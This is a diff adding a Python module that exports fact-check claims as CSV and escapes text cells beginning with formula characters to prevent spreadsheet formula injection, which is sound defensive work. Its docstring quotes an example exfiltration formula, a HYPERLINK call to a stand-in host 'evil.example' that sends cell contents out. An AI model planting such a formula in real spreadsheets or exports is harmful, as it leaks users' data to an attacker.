@@ -1,0 +1,77 @@
+"""Claims as CSV for spreadsheets, safe against formula injection.
+
+Article text, speakers, rationales and source titles come from outside (imported articles, people
+typing): a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is run as a formula by
+Excel, LibreOffice and Google Sheets (`=HYPERLINK("http://evil.example/?"&A1, "click")`). Every
+such text cell is written with a leading apostrophe, which spreadsheets show as plain text (OWASP
+"CSV Injection"). Numbers we produce ourselves (ids, offsets, scores) are written as numbers.
+"""
+
+import csv
+from collections.abc import Iterable, Iterator
+
+from factcheck.export import claim_export_record
+from factcheck.models import Claim
+
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+
+COLUMNS = [
+    "claim_id", "article_id", "article_external_id", "article_url", "outlet", "start", "end", "exact", "type",
+    "checkworthiness", "speaker", "speaker_role", "is_anonymous_source", "status", "origin", "extractor_version",
+    "group_id", "verdict_status", "verdict_rating", "verdict_rationale", "sources",
+]
+
+
+def csv_cell_safe(value) -> str | int | float:
+    """A value as a CSV cell that no spreadsheet evaluates. Text starting with a formula character
+    gets a leading apostrophe; None becomes an empty cell; our own numbers stay numbers."""
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return "true" if value else "false"
+    if isinstance(value, int | float):
+        return value
+    text = str(value)
+    if text.startswith(FORMULA_PREFIXES):
+        return "'" + text
+    return text
+
+
+def claim_csv_row(claim: Claim) -> list:
+    record = claim_export_record(claim)
+    verdicts = record["verdicts"]
+    # The verdict that counts: the published one, else the latest.
+    verdict = next((v for v in verdicts if v["status"] == "published"), verdicts[-1] if verdicts else None)
+    sources = " | ".join(f"{s['title'] or s['url']} ({s['relation']}) {s['url']}" for s in record["sources"])
+    values = {
+        **record,
+        "verdict_status": verdict["status"] if verdict else None,
+        "verdict_rating": verdict["rating"] if verdict else None,
+        "verdict_rationale": verdict["rationale"] if verdict else None,
+        "sources": sources or None,
+    }
+    return [csv_cell_safe(values[column]) for column in COLUMNS]
+
+
+def claims_csv_write(*, claims: Iterable[Claim], out) -> int:
+    """Write a header and one row per claim to the text stream `out`; returns the number of rows."""
+    writer = csv.writer(out, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
+    writer.writerow(COLUMNS)
+    count = 0
+    for claim in claims:
+        writer.writerow(claim_csv_row(claim))
+        count += 1
+    return count
+
+
+def claims_csv_lines(*, claims: Iterable[Claim]) -> Iterator[str]:
+    """The same CSV as lines (for a streaming HTTP response)."""
+
+    class _Line:
+        def write(self, value):
+            return value
+
+    writer = csv.writer(_Line(), quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
+    yield writer.writerow(COLUMNS)
+    for claim in claims:
+        yield writer.writerow(claim_csv_row(claim))
